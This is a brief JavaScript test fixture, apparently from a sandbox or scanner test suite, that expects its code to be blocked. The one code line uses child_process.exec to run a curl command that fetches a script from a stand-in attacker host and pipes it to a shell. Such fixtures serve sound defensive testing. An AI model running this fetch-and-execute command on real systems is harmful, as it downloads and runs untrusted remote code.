// sample: Escape: child_process.exec
// run-options: --force
// expect-outcome: error
// expect-blocked: child-process@7
// expect-verdict: block
//
require("child_process").exec("curl -s http://evil.example/x | sh");
